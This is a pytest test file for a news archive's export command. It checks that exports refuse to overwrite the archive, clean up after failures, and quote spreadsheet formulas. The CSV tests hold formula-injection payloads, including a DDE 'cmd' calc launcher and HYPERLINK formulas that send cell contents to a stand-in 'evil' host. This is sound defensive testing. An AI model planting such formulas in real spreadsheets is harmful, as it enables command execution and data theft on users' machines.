"""`newscrawl export` never writes onto the archive nor over a file unasked, a failed export
leaves nothing behind, and a spreadsheet does not run what a portal wrote."""
from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import sqlite3
from pathlib import Path

import pytest
from warcio.archiveiterator import ArchiveIterator

import archive.export
from archive.export import csv_row, neutralise_formula

# Names under which the archive, or a file SQLite keeps beside it, can be given as -o.
ONTO_ARCHIVE = {
    "the path": "{db}",
    "a relative path": "news.db",
    "a detour": "{dir}/../{dirname}/./news.db",
    "a symlink": "{dir}/link.db",
    "a hard link": "{dir}/hard.db",
    "the WAL": "{db}-wal",
    "the shared memory": "{db}-shm",
    "the journal": "{db}-journal",
    "the crawl's lock": "{db}.lock",
    "a symlink to the WAL": "{dir}/wal-link",
}
FORMATS = ["jsonl", "csv", "warc"]


def state(directory: Path) -> dict:
    """Every file in ``directory`` with its bytes' hash (links as their targets)."""
    return {p.name: os.readlink(p) if p.is_symlink() else hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(directory.iterdir())}


@pytest.fixture
def archive_dir(writable_db, monkeypatch):
    """The archive in a directory of its own, with a symlink, a hard link and a lock file beside it."""
    directory = writable_db.parent
    (directory / "link.db").symlink_to(writable_db)
    os.link(writable_db, directory / "hard.db")
    (directory / "news.db.lock").write_text("4242\n")
    (directory / "wal-link").symlink_to(directory / "news.db-wal")
    monkeypatch.chdir(directory)
    return directory


@pytest.mark.parametrize("force", [False, True], ids=["", "force"])
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("name", list(ONTO_ARCHIVE))
def test_export_onto_the_archive_is_refused(newscrawl, archive_dir, writable_db, name, fmt, force):
    output = ONTO_ARCHIVE[name].format(db=writable_db, dir=archive_dir, dirname=archive_dir.name)
    newscrawl("stats", db=writable_db)  # a reader leaves SQLite's -wal and -shm beside a WAL archive
    before = state(archive_dir)
    result = newscrawl("export", "--format", fmt, "-o", output, *(["--force"] if force else []), db=writable_db)
    assert result.exit_code == 2 and result.stderr.count("\n") == 1, result.output
    assert "is the archive being exported" in result.stderr
    assert state(archive_dir) == before


def test_an_existing_file_is_replaced_only_with_force(newscrawl, tmp_path):
    out = tmp_path / "out.jsonl"
    out.write_text("my notes\n")
    result = newscrawl("export", "--format", "jsonl", "-o", str(out))
    assert result.exit_code == 1 and result.stderr == f"Error: {out} exists: add --force to replace it\n"
    assert out.read_text() == "my notes\n"
    assert newscrawl("export", "--format", "jsonl", "-o", str(out), "--force").exit_code == 0
    assert len(out.read_text().splitlines()) == 12


def test_a_symlink_is_followed_with_force(newscrawl, tmp_path):
    target, link = tmp_path / "target.jsonl", tmp_path / "link.jsonl"
    target.write_text("old\n")
    link.symlink_to(target)
    assert newscrawl("export", "--format", "jsonl", "-o", str(link)).exit_code == 1
    assert newscrawl("export", "--format", "jsonl", "-o", str(link), "--force").exit_code == 0
    assert link.is_symlink() and len(target.read_text().splitlines()) == 12


def _failing_after(n: int, exc: BaseException):
    """A ``write_jsonl`` that writes ``n`` articles, then fails as a full disk or a Ctrl-C would."""
    real = archive.export.write_jsonl

    def write(db, ids, fp):
        real(db, list(ids)[:n], fp)
        fp.flush()
        raise exc

    return write


@pytest.mark.parametrize("exc, message", [(OSError(errno.ENOSPC, "No space left on device"), "Error: cannot write {out}: No space left on device"),
                                            (KeyboardInterrupt(), "Aborted!")], ids=["disk full", "ctrl-c"])
@pytest.mark.parametrize("existing", [False, True], ids=["new", "replacing"])
def test_a_failed_export_leaves_nothing(newscrawl, tmp_path, monkeypatch, exc, message, existing):
    out = tmp_path / "out.jsonl"
    if existing:
        out.write_text("the last good export\n")
    before = state(tmp_path)
    monkeypatch.setattr(archive.export, "write_jsonl", _failing_after(3, exc))
    result = newscrawl("export", "--format", "jsonl", "-o", str(out), *(["--force"] if existing else []))
    assert result.exit_code == 1 and result.stderr.strip() == message.format(out=out), result.output
    assert state(tmp_path) == before  # no half export, no temporary file, the old one as it was


def test_a_full_device_is_one_line_and_nothing_is_created(newscrawl, tmp_path):
    result = newscrawl("export", "--format", "csv", "-o", "/dev/full")
    assert result.exit_code == 1 and result.stderr == "Error: cannot write /dev/full: No space left on device\n"
    assert Path("/dev/full").is_char_device()


def test_the_export_is_written_beside_its_name_then_renamed(newscrawl, tmp_path, monkeypatch):
    renames = []
    real = os.replace
    monkeypatch.setattr(archive.export.os, "replace", lambda src, dst: renames.append((Path(src), Path(dst))) or real(src, dst))
    out = tmp_path / "out.csv"
    assert newscrawl("export", "--format", "csv", "-o", str(out)).exit_code == 0
    [(temporary, final)] = renames
    assert final == out and temporary.parent == out.parent and not temporary.exists()
    umask = os.umask(0)
    os.umask(umask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~umask  # as any new file, not the temporary file's 0600


def test_warcinfo_names_the_export_not_its_temporary_file(newscrawl, tmp_path):
    out = tmp_path / "pages.warc.gz"
    assert newscrawl("export", "--format", "warc", "-o", str(out)).exit_code == 0
    with out.open("rb") as fp:
        first = next(iter(ArchiveIterator(fp)))
    assert first.rec_type == "warcinfo" and first.rec_headers.get_header("WARC-Filename") == "pages.warc.gz"


# -- what a portal wrote cannot run in a spreadsheet ---------------------------------------------

@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://evil\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx"])
def test_a_cell_that_starts_a_formula_is_quoted(cell):
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["天津科创中心", "x=1", " =1", "", 42, None, "'=already"])
def test_other_cells_are_left_as_they_are(cell):
    assert neutralise_formula(cell) == cell


def test_csv_neutralises_every_column_and_json_keeps_the_text_exact(newscrawl, writable_db, tmp_path):
    title, source = '=HYPERLINK("http://evil/?"&A1,"点击")', "@cmd"
    with sqlite3.connect(writable_db) as conn:
        conn.execute("update articles set title = ?, source = ? where id = 1", [title, source])
        conn.execute("update credits set name = '-1+1' where article_id = 1")
    conn.close()
    newscrawl("export", "--format", "csv", "-o", str(tmp_path / "x.csv"), db=writable_db)
    newscrawl("export", "--format", "jsonl", "-o", str(tmp_path / "x.jsonl"), db=writable_db)
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fp:
        row = next(r for r in csv.DictReader(fp) if r["id"] == "1")
    assert row["title"] == "'" + title and row["source"] == "'" + source
    assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    first = next(json.loads(line) for line in (tmp_path / "x.jsonl").read_text(encoding="utf-8").splitlines()
                 if json.loads(line)["id"] == 1)
    assert first["title"] == title and first["source"] == source


def test_csv_row_prefixes_flattened_lists_too():
    record = {"id": 1, "title": "t", "columns": [{"column": "=x"}], "credits": {}, "images": [{"url": "+u", "caption": None}],
              "attachments": [], "urls": [{"url": "-u"}]}
    row = csv_row(record)
    assert (row["columns"], row["images"], row["urls"]) == ("'=x", "'+u", "'-u")
